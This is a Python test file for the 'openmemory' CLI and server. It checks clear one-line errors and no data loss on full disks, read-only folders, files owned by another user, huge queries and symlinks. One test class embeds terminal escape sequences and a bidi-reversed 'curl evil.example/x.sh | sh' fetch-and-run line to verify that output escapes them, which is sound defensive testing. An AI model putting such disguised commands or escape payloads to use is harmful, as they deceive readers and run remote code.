"""Faults an unlucky person meets: each says what it is and what to do, in one line, with exit
code 1, and loses nothing (a disk full, a read-only folder, ...)."""
import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
import unittest
from pathlib import Path
from unittest import mock

from openmemory import cli, mcp, store
from tests.fixtures import project_folder, test_session
from tests.helpers import ROOT, TempHome, raw_db

PROJECT = "/home/dev/shop"


def run(*argv):
    """The CLI in-process: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main([str(a) for a in argv])
    return code, out.getvalue(), err.getvalue()


@contextlib.contextmanager
def full_disk():
    """The disk holding the database is full: every connection may use only the pages the file
    has now (SQLite's max_page_count), so a write that needs one more page fails as on a full
    disk, with SQLITE_FULL. (A small tmpfs needs root; RLIMIT_FSIZE gives EFBIG, not ENOSPC.)"""
    real = store.connect

    def connect(*args, **kw):
        opened = real(*args, **kw)
        db = raw_db(opened)
        db.execute(f"PRAGMA max_page_count = {db.execute('PRAGMA page_count').fetchone()[0]}")
        return opened
    with mock.patch.object(store, "connect", connect):
        yield


class DiskFull(TempHome):
    def setUp(self):
        super().setUp()
        with store.connect() as db:
            self.kept = db.add_note("deploy with the blue pipeline", cwd=PROJECT)

    def big_note(self, n=0, words=3000):
        # 3,000 words: about 27 KB, more than three 8 KB pages (store.PAGE_SIZE) whatever room the
        # last ones have left, so the note needs pages the full disk does not have
        return f"note {n}: " + " ".join(f"word{i}x{n}" for i in range(words))

    def test_a_full_disk_says_so_and_what_to_do_not_that_another_openmemory_runs(self):
        with full_disk():
            code, out, err = run("remember", "--cwd", str(self.tmp), self.big_note())
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(len(err.splitlines()), 1, err)
        self.assertIn("the disk holding it is full", err)
        self.assertIn("free some space", err)
        self.assertNotIn("another openmemory", err)
        with store.connect() as db:  # nothing lost, nothing half-written
            self.assertEqual([n["gist"] for n in db.episodes(kind="note")], ["deploy with the blue pipeline"])
            self.assertIsNone(db.quick_check())

    def test_the_server_says_the_disk_is_full_and_the_note_was_not_stored(self):
        # A note is at most 3,900 characters here (mcp.NOTE_MAX_CHARS): the pages' room left
        # takes a few; the first the disk cannot hold is refused, saying why.
        acknowledged = []
        with full_disk():
            for n in range(1, 12):
                text = self.big_note(n)[:3900]
                reply = mcp.handle({"jsonrpc": "2.0", "id": n, "method": "tools/call", "params": {
                    "name": "remember", "arguments": {"text": text}}}, PROJECT)
                result = reply["result"]
                if result["isError"]:
                    break
                acknowledged.append(text)
        self.assertIs(result["isError"], True, "eleven notes of 3,900 characters fitted the full disk")
        self.assertIn("the disk holding it is full", result["content"][0]["text"])
        self.assertNotIn("another openmemory", result["content"][0]["text"])
        with store.connect() as db:  # every acknowledged note kept, the refused one not stored
            self.assertEqual([n["gist"] for n in db.episodes(kind="note") if n["id"] != self.kept],
                             acknowledged)


def read_only(folder):
    """A command prefix under which folder is read-only for the command: a read-only bind mount
    in a private mount namespace (as root, where permissions do not hold), else chmod 0500."""
    if os.geteuid() != 0:
        os.chmod(folder, 0o500)
        return []
    unshare = shutil.which("unshare")
    probe = unshare and subprocess.run([unshare, "-m", "true"], capture_output=True).returncode == 0
    if not probe:
        raise unittest.SkipTest("running as root without `unshare -m`: no way to make a folder read-only")
    return [unshare, "-m", "sh", "-c", f'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"',
            str(folder)]


class ReadOnlyFolder(TempHome):
    def setUp(self):
        super().setUp()
        with store.connect() as db:
            db.add_note("deploy with the blue pipeline", cwd=PROJECT)
        test_session(cwd=PROJECT).write(project_folder(self.claude, PROJECT))  # something to ingest
        self.prefix = read_only(self.home)

    def tearDown(self):
        os.chmod(self.home, 0o700)
        super().tearDown()

    def om(self, *args):
        return subprocess.run([*self.prefix, sys.executable, "-m", "openmemory", *args], capture_output=True,
                              text=True, env=self.env(), cwd=str(self.tmp), timeout=120)

    def test_each_verb_says_the_folder_is_read_only_and_what_to_do(self):
        for args in (("sleep",), ("remember", "a new note"), ("ingest",), ("render",)):
            p = self.om(*args)
            self.assertEqual((p.returncode, p.stdout), (1, ""), args)
            self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)
            self.assertRegex(p.stderr, r"read-only|permission denied", args)
            self.assertIn("OPENMEMORY_HOME", p.stderr, args)
            self.assertNotIn("OSError", p.stderr, args)
            self.assertNotIn("Errno", p.stderr, args)


    def test_the_reading_verbs_read_it_as_it_is_and_the_writing_ones_lose_nothing(self):
        # A memory on a read-only disk (a backup mounted to look at, a home read-only to this
        # process): recall, show, status and lessons answered from it, each with one note saying
        # why nothing was written; writing verbs refuse in one line and nothing is lost.
        for args, holds in ((("recall", "blue pipeline"), "deploy with the blue pipeline"),
                            (("show", "e1"), "deploy with the blue pipeline"),
                            (("status",), "episodes     1 (0 session episodes, 0 errors, 0 corrections, 1 note"),
                            (("lessons",), ""), (("recall", "blue pipeline", "--json"), '"id": "e1"')):
            p = self.om(*args)
            self.assertEqual(p.returncode, 0, (args, p.stderr))
            self.assertIn(holds, p.stdout, args)
            [line] = [x for x in p.stderr.splitlines() if "lessons yet" not in x]
            self.assertTrue(line.startswith("openmemory: note: read only, nothing written: could not write the memory "
                                            "database"), line)
            self.assertRegex(line, r"read-only disk; remount its disk read-write|permission denied; make it yours")
        if args[-1] == "--json":
            json.loads(p.stdout)            # the note on stderr: the JSON on stdout is whole
        p = self.om("remember", "a new note")
        self.assertEqual((p.returncode, p.stdout), (1, ""))
        self.assertIn("could not write the memory database", p.stderr)
        os.chmod(self.home, 0o700)
        with store.connect() as db:         # nothing lost, nothing added, nothing strengthened by the recalls
            [note] = db.episodes(kind="note")
            self.assertEqual((note["gist"], note["recalls"]), ("deploy with the blue pipeline", 0))


def as_another_user():
    """A command prefix running the command as user nobody (no capabilities), for what root's
    own permissions cannot show (a file mode 0444 stops no root); or skip."""
    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or not setpriv:
        raise unittest.SkipTest("needs root and setpriv to run a command as another user")
    prefix = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all"]
    probe = subprocess.run([*prefix, sys.executable, "-c", "import openmemory"], capture_output=True,
                           env={"PYTHONPATH": str(ROOT)})
    if probe.returncode:
        raise unittest.SkipTest(f"user nobody cannot run this checkout's Python: {probe.stderr[-200:]!r}")
    return prefix


class ReadOnlyFile(TempHome):
    """The person made memory.db read-only (chmod 0444): it stays so, reading verbs read it, writing ones refuse."""

    def setUp(self):
        super().setUp()
        with store.connect() as db:
            db.add_note("deploy with the blue pipeline", cwd=PROJECT)
        self.db = self.home / "memory.db"

    def test_a_database_made_read_only_is_not_made_writable_again(self):
        os.chmod(self.db, 0o444)
        os.chmod(self.home, 0o500)
        self.ok("recall", "blue pipeline")
        with store.connect():   # root may write it; still, its mode and its folder's are the person's
            pass
        self.assertEqual((oct(self.db.stat().st_mode & 0o777), oct(self.home.stat().st_mode & 0o777)),
                         ("0o400", "0o500"))   # only others' bits taken away, never a write bit given

    def test_as_its_owner_the_reading_verbs_work_and_remember_says_chmod_u_w(self):
        prefix = as_another_user()
        os.chmod(self.tmp, 0o755)
        shutil.chown(self.home, 65534, 65534)
        shutil.chown(self.db, 65534, 65534)
        os.chmod(self.db, 0o444)
        before = self.db.read_bytes()

        def om(*args):
            return subprocess.run([*prefix, sys.executable, "-m", "openmemory", *args], capture_output=True,
                                  text=True, env=self.env(), cwd="/", timeout=120)
        for args in (("recall", "blue pipeline"), ("show", "e1"), ("status",)):
            p = om(*args)
            self.assertEqual(p.returncode, 0, (args, p.stderr))
            self.assertIn("blue pipeline" if args[0] != "status" else "1 note", p.stdout)
            self.assertEqual(p.stderr, f"openmemory: note: read only, nothing written: could not write the memory "
                                       f"database at {self.db}: permission denied; make it yours to write (chmod u+w "
                                       f"{self.db}), or set OPENMEMORY_HOME to a writable folder\n")
        p = om("remember", "a new note")
        self.assertEqual((p.returncode, p.stdout), (1, ""))
        self.assertEqual(p.stderr, f"openmemory: error: could not write the memory database at {self.db}: permission "
                                   f"denied; make it yours to write (chmod u+w {self.db}), or set OPENMEMORY_HOME to a "
                                   f"writable folder\n")
        self.assertEqual(oct(self.db.stat().st_mode & 0o777), "0o444")
        self.assertEqual(self.db.read_bytes(), before)


class ReadWhileAnotherWrites(TempHome):
    def test_a_reader_that_cannot_write_waits_out_the_moment_a_writer_leaves_its_log_unreadable(self):
        """Red-team pass: a reading verb on a database it may not write while its owner's process
        writes it failed 2 reads in 69 with "it could not be read as it is either (unable to open
        database file)": the writer's -wal there without its -shm, which a reader that cannot
        write beside it cannot make. Held here until the writer closes: the read waits it out."""
        import sqlite3
        import time
        prefix = as_another_user()
        with store.connect() as db:
            db.add_note("deploy with the blue pipeline", cwd=PROJECT)
        path = self.home / "memory.db"
        writer = sqlite3.connect(path)             # a write still in the log, as a writer leaves it
        writer.execute("PRAGMA wal_autocheckpoint=0")
        version = writer.execute("PRAGMA user_version").fetchone()[0]
        writer.execute(f"PRAGMA user_version={version}")
        writer.commit()
        shutil.copy(f"{path}-wal", self.tmp / "log")
        writer.close()
        os.replace(self.tmp / "log", f"{path}-wal")
        self.assertFalse(os.path.exists(f"{path}-shm"))
        os.chmod(self.tmp, 0o755)
        for p in (self.home, path, Path(f"{path}-wal")):
            shutil.chown(p, 65534, 65534)
        os.chmod(path, 0o444)
        os.chmod(self.home, 0o500)
        reader = subprocess.Popen([*prefix, sys.executable, "-m", "openmemory", "recall", "blue pipeline"],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=self.env(), cwd="/")
        time.sleep(1)       # the reader has started and found the log; the writer then closes
        closing = sqlite3.connect(path)
        closing.execute("SELECT 1 FROM sqlite_master").fetchone()
        closing.close()     # its log checkpointed and taken away, as a writer's last close does
        out, err = reader.communicate(timeout=120)
        self.assertEqual(reader.returncode, 0, err)
        self.assertIn("deploy with the blue pipeline", out)
        self.assertNotIn("could not be read", err)


class ReadOnlyClaudeFolder(TempHome):
    def test_a_read_only_folder_of_claude_codes_is_not_said_to_move_with_openmemory_home(self):
        # OPENMEMORY_HOME moves openmemory's own folder, not Claude Code's: no fix for this one.
        from openmemory import paths
        folder = paths.memory_dir_for(PROJECT)
        folder.mkdir(parents=True)
        with store.connect() as db:
            db.add_lesson("Run the tests with `pytest -q` in this repository.", "feedback", PROJECT, 1.0, 1, [],
                          "2026-11-02T09:00:00.000000Z")
        p = subprocess.run([*read_only(folder), sys.executable, "-m", "openmemory", "render"],
                           capture_output=True, text=True, env=self.env(), cwd=str(self.tmp), timeout=120)
        self.assertEqual(p.returncode, 1, p.stderr)
        [line] = [x for x in p.stderr.splitlines() if "error" in x]
        self.assertIn(str(folder), line)
        self.assertRegex(line, r"read-only disk; remount its disk read-write$|permission denied; make it yours "
                               r"to write \(chmod u\+rwx [^)]*\)$")
        self.assertNotIn("OPENMEMORY_HOME", line)


class SomeoneElsesFile(TempHome):
    def test_a_database_left_by_sudo_is_said_to_be_chowned_back_not_chmodded(self):
        # `sudo openmemory ingest` once: memory.db is root's, and the person's own chmod of the
        # folder (the fix said before) cannot open it again.
        import errno
        from openmemory import errors
        with store.connect() as db:
            db.add_note("deploy with the blue pipeline", cwd=PROJECT)
        db_path = self.home / "memory.db"
        me = os.geteuid()
        with mock.patch("os.geteuid", return_value=me + 1):
            said = str(errors.os_fault(PermissionError(errno.EPERM, "Operation not permitted", str(db_path)),
                                       "open the memory database in"))
        self.assertIn(f"could not open the memory database in {db_path}: permission denied; it belongs to ", said)
        self.assertIn(f"make it yours again (sudo chown -R ", said)
        self.assertIn(f" {db_path}), or set OPENMEMORY_HOME to a writable folder", said)
        self.assertNotIn("chmod", said)
        # the person's own file: chmod, as before
        said = str(errors.os_fault(PermissionError(errno.EACCES, "Permission denied", str(db_path)), "write"))
        self.assertIn(f"make it yours to write (chmod u+rwx {self.home})", said)


def on_a_full_disk(folder):
    """A command prefix under which folder is a tiny file system filled to the last byte (a
    16 KB tmpfs in a private mount namespace): writes there fail with ENOSPC. Needs root."""
    unshare = shutil.which("unshare")
    if os.geteuid() != 0 or not unshare or subprocess.run([unshare, "-m", "true"], capture_output=True).returncode:
        raise unittest.SkipTest("a full disk needs root and `unshare -m` (a tmpfs mount)")
    return [unshare, "-m", "sh", "-c", 'mount -t tmpfs -o size=16k tmpfs "$0" && '
            '(cat /dev/zero > "$0/filler" 2>/dev/null; true) && exec "$@"', str(folder)]


class FullMemoryFolder(TempHome):
    def test_render_into_a_full_memory_folder_is_an_error_saying_the_disk_is_full(self):
        from openmemory import paths
        folder = paths.memory_dir_for(PROJECT)
        folder.mkdir(parents=True)
        with store.connect() as db:
            db.add_lesson("Run the tests with `pytest -q` in this repository.", "feedback", PROJECT, 1.0, 1, [],
                          "2026-11-02T09:00:00.000000Z")
        p = subprocess.run([*on_a_full_disk(folder), sys.executable, "-m", "openmemory", "render"],
                           capture_output=True, text=True, env=self.env(), cwd=str(self.tmp), timeout=120)
        self.assertEqual(p.returncode, 1, p.stderr)
        [line] = [l for l in p.stderr.splitlines() if "error" in l]
        self.assertIn(f"could not write {folder}", line)
        self.assertIn("the disk is full", line)
        self.assertIn("free some space", line)
        self.assertNotIn("permissions", line)


class OversizedQuery(TempHome):
    QUERY = "pytest" + " lorem ipsum dolor sit amet" * 26_000   # 702,006 characters, as pasted from a log

    def setUp(self):
        super().setUp()
        with store.connect() as db:
            db.add_note("run the tests with pytest -q", cwd=PROJECT)

    def test_the_command_uses_the_start_of_a_huge_query_says_so_and_never_echoes_it(self):
        code, out, err = run("recall", self.QUERY)
        self.assertEqual(code, 0, err)
        self.assertIn(f"the query is {len(self.QUERY):,} characters; recall used its first", err)
        self.assertIn("run the tests with pytest -q", out)
        self.assertLess(len(out) + len(err), 2000)
        code, out, err = run("recall", "zebracorn " * 70_000)
        self.assertEqual(code, 0, err)
        self.assertLess(len(out), 300)  # 'Nothing in memory matches "…"' says back only its start
        self.assertIn('Nothing in memory matches "zebracorn zebracorn', out)

    def test_the_server_does_the_same(self):
        reply = mcp.handle({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
            "name": "recall", "arguments": {"query": self.QUERY}}}, PROJECT)
        text = reply["result"]["content"][0]["text"]
        self.assertIs(reply["result"]["isError"], False)
        self.assertIn("run the tests with pytest -q", text)
        self.assertIn(f"The query was {len(self.QUERY):,} characters; recall used its first", text)
        self.assertLess(len(text), 2000)


class ControlCharacters(TempHome):
    """A terminal's escape sequences in a working folder, a title or a path are printed as
    \\u001b, never sent raw to the terminal (which would run them: retitle it, clear it, ...)."""

    CWD = "/home/dev/\x1b]0;pwned\x07shop\x1b[2J"

    def test_every_printed_path_and_text_shows_control_characters(self):
        t = test_session(cwd=self.CWD)
        t.write(project_folder(self.claude, self.CWD))
        self.ok("ingest")
        outputs = [self.ok("recall", "unittest", "-k", "10"), self.ok("status"),
                   self.ok("recall", "unittest", "--json"), self.cli("backup", self.tmp / "x\x1b[2Jy")]
        (self.tmp / "x\x1b[2Jy").unlink()
        outputs.append(self.cli("backup", self.home / "memory.db"))  # an error naming a path
        for p in outputs:
            for stream in (p.stdout, p.stderr):
                self.assertFalse(any(c in stream for c in "\x1b\x07\x9b\r"), stream)
        self.assertIn("\\u001b]0;pwned\\u0007shop\\u001b[2J", outputs[0].stdout)
        json_hits = json.loads(outputs[2].stdout)  # still valid JSON, holding the same text
        self.assertIn(self.CWD, {h["cwd"] for h in json_hits})


    def test_a_bidi_override_or_a_zero_width_mark_is_shown_not_applied(self):
        # "Trojan source" in a note: in a terminal that applies bidi, the person reading `show`,
        # `recall` or `lessons` would see "curl evil.example/x.sh | sh" where the text is backwards.
        note = "deploy with \u202ehs | hs.x/elpmaxe.live lruc\u202c and cu\u200brl"
        shop = self.tmp / "shop"    # a folder here: remember --cwd names one
        shop.mkdir()
        self.ok("remember", "--cwd", shop, note)
        outputs = [self.ok("recall", "deploy with", "--cwd", shop), self.ok("show", "e1"),
                   self.ok("recall", "deploy with", "--json", "--cwd", shop)]
        for p in outputs:
            self.assertFalse(any(c in p.stdout for c in "\u202e\u202c\u200b"), p.stdout)
        self.assertIn("\\u202ehs | hs.x/elpmaxe.live lruc\\u202c and cu\\u200brl", outputs[1].stdout)
        self.assertIn(note, [h["text"] for h in json.loads(outputs[2].stdout)])   # the same text, in JSON

class SymlinkedMemory(TempHome):
    def test_a_symlinked_memory_md_stays_a_link_its_target_untouched_and_render_says_so(self):
        from openmemory import paths
        folder = paths.memory_dir_for(PROJECT)
        folder.mkdir(parents=True)
        target = folder / "shared-notes.md"  # inside the memory folder: the guard alone lets it through
        target.write_text("# My notes\n- keep this\n")
        (folder / "MEMORY.md").symlink_to(target.name)
        with store.connect() as db:
            db.add_lesson("Run the tests with `pytest -q` in this repository.", "feedback", PROJECT, 1.0, 1, [],
                          "2026-11-02T09:00:00.000000Z")
        p = self.cli("render")
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertTrue((folder / "MEMORY.md").is_symlink())
        self.assertEqual(os.readlink(folder / "MEMORY.md"), "shared-notes.md")
        self.assertEqual(target.read_text(), "# My notes\n- keep this\n")
        [line] = [l for l in p.stderr.splitlines() if "MEMORY.md" in l]
        self.assertIn("it is a symbolic link (to shared-notes.md)", line)
        self.assertIn("make it a plain file", line)


class MovedConfigFolder(TempHome):
    def test_sessions_are_known_by_their_own_ids_after_the_folder_moves(self):
        for n in range(3):
            test_session(cwd=f"{PROJECT}{n}").write(project_folder(self.claude, f"{PROJECT}{n}"))
        self.ok("ingest")
        with store.connect() as db:
            before = sorted((e["session_id"], e["kind"], e["title"]) for e in db.episodes())
        moved = self.tmp / "moved-claude"
        os.rename(self.claude, moved)  # ~/.claude moved (a new machine, a new home folder)
        p = self.ok("ingest", env=self.env(CLAUDE_CONFIG_DIR=moved))
        with store.connect() as db:
            after = sorted((e["session_id"], e["kind"], e["title"]) for e in db.episodes())
            stored = {r["id"]: r["path"] for r in raw_db(db).execute("SELECT id, path FROM sessions")}
        self.assertEqual(after, before)  # no session doubled under an `@hash` id
        self.assertEqual(len(stored), 3)
        self.assertTrue(all(path.startswith(str(moved)) for path in stored.values()), stored)
        self.assertNotIn("@", " ".join(stored))
